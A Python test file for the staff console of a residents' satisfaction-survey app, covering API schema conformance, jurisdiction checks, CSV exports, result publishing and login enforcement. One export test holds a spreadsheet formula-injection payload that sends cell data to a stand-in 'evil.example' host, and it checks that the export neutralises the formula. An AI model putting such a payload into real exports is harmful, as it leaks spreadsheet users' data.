"""Staff side: the OpenAPI fragment against the running server, jurisdiction (who sees, manages, audits),
pages with charts and the dashboard panel, frozen questions, exports, and publishing through the notices
feature (or the broadcast fallback while it is absent)."""
from __future__ import annotations

import sys
import types
from datetime import timedelta

import yaml
from sqlalchemy import select

from handlers.console import CONSOLE
from handlers.surveys import voting
from handlers.surveys.console import HERE
from handlers.surveys.jobs import sweep
from storage.delivery_models import Broadcast
from storage.repositories import surveys as repo
from tests.console.conftest import csrf_in
from tests.console.test_api import check
from tests.surveys.conftest import NOW, add_resident, new_campaign

ANSWERS = {"q1": 5, "q2": 4, "q3": 2, "q4": 4, "q5": 5, "q6": 3, "q7": 1, "q8": [1, 3], "q9": "门禁常坏"}
BODY = {"template": "property", "subject": "WY-JA", "scope_level": "community", "scope_codes": ["HX-YYL-YJ"],
        "opens_at": "2026-11-20T09:00", "closes_at": "2026-11-27T18:00"}


async def vote(world, sid, resident, answers=ANSWERS):
    async with world.services.db.transaction() as session:
        survey = await repo.get(session, sid)
        return await voting.submit(session, survey, resident, answers, survey.questions_version, NOW,
                                   household_key=world.services.settings.household_secret)


async def api(world, method, path, who="admin", **kw):
    resp = await getattr(world.client, method)("/api/v1" + path, headers=world.bearer(who), **kw)
    return resp.status, (await resp.json() if resp.content_type == "application/json" else await resp.text())


async def test_openapi_fragment_matches_the_running_server(console_world):
    world = console_world
    fragment = yaml.safe_load((HERE / "openapi.yaml").read_text(encoding="utf-8"))
    documented = {(m.upper(), p) for p, ops in fragment["paths"].items() for m in ops}
    mounted = {(r.method, r.path) for r in world.client.server.app[CONSOLE].registry.api_routes
               if r.path.startswith("/surveys")}
    assert documented == mounted
    doc = await (await world.client.get("/api/v1/openapi.json")).json()
    sid = await new_campaign(world.services)
    closed = await new_campaign(world.services, template="developer", subject="KF-JC")
    voter = await add_resident(world.services, "HX-YYL-YJ-01")
    await vote(world, sid, voter)
    async with world.services.db.transaction() as session:
        await session.execute(__import__("sqlalchemy").update(repo.Survey).where(repo.Survey.id == closed)
                              .values(status="closed", closed_at=NOW))
    calls = [("GET", "/surveys", None), ("POST", "/surveys", BODY), ("GET", "/surveys/templates", None),
             ("GET", "/surveys/rankings", None), ("GET", f"/surveys/{sid}", None),
             ("GET", f"/surveys/{sid}/results", None), ("GET", f"/surveys/{sid}/audit", None),
             ("POST", f"/surveys/{closed}/publish", None)]
    problems = []
    for method, url, body in calls:
        template = next(p for p in doc["paths"] if _matches(p, url))
        op = doc["paths"][template][method.lower()]
        status, data = await api(world, method.lower(), url, json=body) if body else \
            await api(world, method.lower(), url)
        if str(status) not in op["responses"]:
            problems.append((method, url, status, data))
            continue
        schema = op["responses"][str(status)]["content"]["application/json"]["schema"]
        problems += [(method, url, p) for p in check(doc, schema, data)]
    status, text = await api(world, "get", f"/surveys/{sid}/export?kind=responses")
    assert status == 200 and text.startswith("\ufeff序号")
    status, body = await api(world, "post", f"/surveys/{sid}/questions", json={"questions": []})
    assert status == 422
    for url in ("/surveys", f"/surveys/{sid}"):
        resp = await world.client.get("/api/v1" + url)
        assert resp.status == 401 and not check(doc, doc["components"]["schemas"]["Error"], await resp.json())
    assert not problems


def _matches(template: str, url: str) -> bool:
    a, b = template.strip("/").split("/"), url.split("?")[0].strip("/").split("/")
    return len(a) == len(b) and all(x == y or x.startswith("{") for x, y in zip(a, b))


async def test_jurisdiction_create_see_manage_and_audit(console_world):
    world = console_world
    status, body = await api(world, "post", "/surveys", "yijing", json=BODY)
    assert status == 201 and body["status"] == "draft" and body["respondents"] == 0
    own = body["id"]
    status, _ = await api(world, "post", "/surveys", "yijing", json={**BODY, "scope_codes": ["HX-YYL-PJ"],
                                                                      "subject": "WY-HH"})
    assert status == 403  # another community
    status, body = await api(world, "post", "/surveys", "hexi", json={**BODY, "scope_level": "district",
                                                                       "scope_codes": ["HX"]})
    district = body["id"]
    assert status == 201
    assert (await api(world, "get", f"/surveys/{own}", "pingjiang"))[0] == 404
    assert (await api(world, "get", f"/surveys/{own}", "nankai"))[0] == 404
    assert (await api(world, "get", f"/surveys/{district}", "yijing"))[0] == 200  # touches their community
    assert (await api(world, "post", f"/surveys/{district}/schedule", "yijing"))[0] == 403  # but not theirs to run
    listed = {s["id"] for s in (await api(world, "get", "/surveys", "pingjiang"))[1]["surveys"]}
    assert listed == set()  # WY-JA serves no estate of 平江社区
    assert (await api(world, "get", f"/surveys/{own}/audit", "yijing"))[0] == 403  # community level: no audit
    assert (await api(world, "get", f"/surveys/{own}/audit", "hexi"))[0] == 200
    status, body = await api(world, "post", "/surveys", "admin", json={**BODY, "subject": "WY-HH",
                                                                        "scope_codes": ["HX-MJ-LS"]})
    assert status == 422 and "没有" in body["message"]  # 海河畔 serves no estate there
    status, body = await api(world, "post", "/surveys", "admin", json={**BODY, "closes_at": "2026-11-01T00:00"})
    assert status == 422 and "截止时间" in body["message"]


async def test_questions_freeze_with_the_first_vote(console_world):
    world = console_world
    sid = await new_campaign(world.services)
    _, survey = await api(world, "get", f"/surveys/{sid}")
    questions = survey["questions"][:3]
    status, body = await api(world, "post", f"/surveys/{sid}/questions", json={"questions": questions})
    assert status == 200 and body["questions_version"] == 2 and len(body["questions"]) == 3
    voter = await add_resident(world.services, "HX-YYL-YJ-02")
    await vote(world, sid, voter, {"q1": 4, "q2": 4, "q3": 4})
    status, body = await api(world, "post", f"/surveys/{sid}/questions", json={"questions": questions[:2]})
    assert status == 409 and "不能再修改" in body["message"]


async def test_response_export_neutralises_formulas_and_redacts_comments(console_world):
    world = console_world
    sid = await new_campaign(world.services)
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点此领取补贴")'
    await vote(world, sid, await add_resident(world.services, "HX-YYL-YJ-01"), {**ANSWERS, "q9": evil})
    await vote(world, sid, await add_resident(world.services, "HX-YYL-YJ-01"),
               {**ANSWERS, "q9": "我是王先生，电话13812345678"})
    status, text = await api(world, "get", f"/surveys/{sid}/export?kind=responses")
    assert status == 200 and text.startswith("\ufeff")
    rows = list(__import__("csv").reader(__import__("io").StringIO(text.lstrip("\ufeff"))))
    comments = {row[-1] for row in rows[1:]}
    assert "'" + evil in comments and evil not in comments  # a text cell, never a formula
    assert not any("13812345678" in c or "王先生" in c for c in comments)


async def test_pages_charts_panel_and_exports(console_world):
    world = console_world
    sid = await new_campaign(world.services)
    for n in range(3):
        await vote(world, sid, await add_resident(world.services, "HX-YYL-YJ-01"),
                   {**ANSWERS, "q1": 3 + n % 3})
    await world.login("yijing")
    page = await (await world.client.get(f"/console/surveys/{sid}")).text()
    assert "<svg" in page and "各小区参与率" in page and "谊景花园" in page and "服务态度" in page
    assert "投票记录" not in page  # community level
    home = await (await world.client.get("/console/")).text()
    assert "进行中的满意度调查" in home and "3/3" in home
    listing = await (await world.client.get("/console/surveys")).text()
    assert "津安物业服务有限公司物业服务质量满意度调查" in listing
    csv_text = await (await world.client.get(f"/console/surveys/{sid}/export.csv?kind=responses")).text()
    lines = csv_text.strip().splitlines()
    assert len(lines) == 4 and "门禁常坏" in csv_text
    async with world.services.db.transaction() as session:
        refs = [r for (r,) in (await session.execute(select(repo.SurveyResponse.resident_ref))).all()]
    assert not any(ref in csv_text for ref in refs)  # anonymised
    aggregates = await (await world.client.get(f"/console/surveys/{sid}/export.csv?kind=aggregates")).text()
    assert "综合满意率" in aggregates and "谊景花园" in aggregates
    csrf = csrf_in(page)
    resp = await world.client.post(f"/console/surveys/{sid}/close", data={"_csrf": csrf}, allow_redirects=False)
    assert resp.status == 303
    assert "已结束" in await (await world.client.get(f"/console/surveys/{sid}")).text()
    ranks = await (await world.client.get("/console/surveys/rankings?template=property")).text()
    assert "津安物业服务有限公司" in ranks and "样本较少" in ranks


async def test_console_create_form_reports_errors(console_world):
    world = console_world
    await world.login("yijing")
    page = await (await world.client.get("/console/surveys")).text()
    resp = await world.client.post("/console/surveys", data={
        "_csrf": csrf_in(page), "template": "property", "subject": "没有这家", "scope_level": "community",
        "scope_codes": "HX-YYL-YJ", "opens_at": "2026-11-21T09:00", "closes_at": "2026-11-28T18:00",
        "owners_only": "on", "per_household": "on", "reminders_max": "2", "reminder_gap_hours": "48"})
    assert resp.status == 422 and "找不到调查对象" in await resp.text()


async def test_publish_goes_through_the_notices_feature(console_world, monkeypatch):
    world = console_world
    sid = await new_campaign(world.services)
    await vote(world, sid, await add_resident(world.services, "HX-YYL-YJ-01"))
    calls = []

    async def publish_system_notice(session, **kw):
        calls.append(kw)
        return types.SimpleNamespace(id=77)

    fake = types.ModuleType("handlers.notices.service")
    fake.publish_system_notice = publish_system_notice
    monkeypatch.setitem(sys.modules, "handlers.notices", types.ModuleType("handlers.notices"))
    monkeypatch.setitem(sys.modules, "handlers.notices.service", fake)
    assert (await api(world, "post", f"/surveys/{sid}/publish"))[0] == 409  # still open
    await sweep(world.services, NOW + timedelta(days=8))
    status, body = await api(world, "post", f"/surveys/{sid}/publish", "yijing")
    assert status == 200 and body["status"] == "published" and body["published_ref"] == "notice:77"
    [call] = calls
    assert call["category"] == "general" and call["source"] == f"survey:{sid}" and call["scope_level"] == "estate"
    assert "综合满意率" in call["body"] and call["tables"][0]["columns"][0] == "题目" and call["now"] == NOW
    assert call["author"] == "staff:yijing" and len(call["scope_ids"]) == 2
    assert (await api(world, "post", f"/surveys/{sid}/publish"))[0] == 409  # once


async def test_publish_falls_back_to_a_notice_broadcast_without_the_notices_feature(console_world, monkeypatch):
    world = console_world
    monkeypatch.setitem(sys.modules, "handlers.notices.service", None)  # import fails
    sid = await new_campaign(world.services, closes_at=NOW + timedelta(hours=1))
    await sweep(world.services, NOW + timedelta(hours=2))
    status, body = await api(world, "post", f"/surveys/{sid}/publish")
    assert status == 200 and body["published_ref"].startswith("broadcast:")
    async with world.services.db.transaction() as session:
        b = await session.scalar(select(Broadcast).where(Broadcast.source == f"survey:{sid}"))
    assert b.category == "notice" and "结果公布" in b.title and "参与率" in b.text


async def test_publish_creates_a_real_notice_when_the_feature_is_installed(console_world):
    import pytest

    notices = pytest.importorskip("handlers.notices.service")
    world = console_world
    sid = await new_campaign(world.services, closes_at=NOW + timedelta(hours=1))
    await vote(world, sid, await add_resident(world.services, "HX-YYL-YJ-02"))
    await sweep(world.services, NOW + timedelta(hours=2))
    status, body = await api(world, "post", f"/surveys/{sid}/publish", "youyilu")
    assert status == 200 and body["published_ref"].startswith("notice:"), body
    notice_id = int(body["published_ref"].split(":")[1])
    from storage.notice_models import Notice
    async with world.services.db.transaction() as session:
        notice = await session.get(Notice, notice_id)
        await session.refresh(notice, ["versions"])
        assert notice.source == f"survey:{sid}" and notice.category == "general"
        assert "结果公布" in notices.current(notice).title


async def test_every_survey_route_refuses_anonymous_callers(console_world):
    world = console_world
    sid = await new_campaign(world.services)
    registry = world.client.server.app[CONSOLE].registry
    routes = [("/console" + r.path, r.method, False) for r in registry.pages if r.path.startswith("/surveys")] + \
             [("/api/v1" + r.path, r.method, True) for r in registry.api_routes if r.path.startswith("/surveys")]
    assert len(routes) >= 20
    for path, method, is_api in routes:
        url = path.replace("{survey_id}", str(sid))
        resp = await (world.client.get(url, allow_redirects=False) if method == "GET"
                      else world.client.post(url, data={}, allow_redirects=False))
        expected = 401 if is_api else (303 if method == "GET" else 403)
        assert resp.status == expected, (method, url, resp.status)
    async with world.services.db.transaction() as session:
        assert (await repo.get(session, sid)).status == "open"  # refused writes changed nothing


async def test_console_create_form_uses_pickers_not_codes(console_world):
    """The subject is chosen from the companies by name and the scope from the jurisdiction's picker; a
    community account is offered only its own community and estates, and a pick outside is refused."""
    from sqlalchemy import select as _select

    from storage.models import Community, Estate
    from storage.survey_models import Survey

    world = console_world
    await world.login("yijing")
    page = await (await world.client.get("/console/surveys")).text()
    assert "辖区编码" not in page and ">津安物业服务有限公司</option>" in page
    async with world.services.db.transaction() as session:
        yj = await session.scalar(_select(Community.id).where(Community.code == "HX-YYL-YJ"))
        pj = await session.scalar(_select(Community.id).where(Community.code == "HX-YYL-PJ"))
        estate = await session.scalar(_select(Estate.id).where(Estate.code == "HX-YYL-YJ-01"))
    assert f'value="community:{yj}"' in page and f'value="community:{pj}"' not in page
    base = {"_csrf": csrf_in(page), "template": "property", "subject": "WY-JA", "opens_at": "2026-11-21T09:00",
            "closes_at": "2026-11-28T18:00", "owners_only": "on", "per_household": "on", "reminders_max": "2",
            "reminder_gap_hours": "48"}
    resp = await world.client.post("/console/surveys", data={**base, "scope": f"estate:{estate}"},
                                   allow_redirects=False)
    assert resp.status == 303
    async with world.services.db.transaction() as session:
        survey = (await session.execute(_select(Survey).order_by(Survey.id.desc()))).scalars().first()
    assert survey.scope_level == "estate" and survey.subject_name == "津安物业服务有限公司"
    missing = await world.client.post("/console/surveys", data=base)
    assert missing.status == 422 and "请选择调查范围" in await missing.text()
    outside = await world.client.post("/console/surveys", data={**base, "scope": f"community:{pj}"})
    assert outside.status == 403
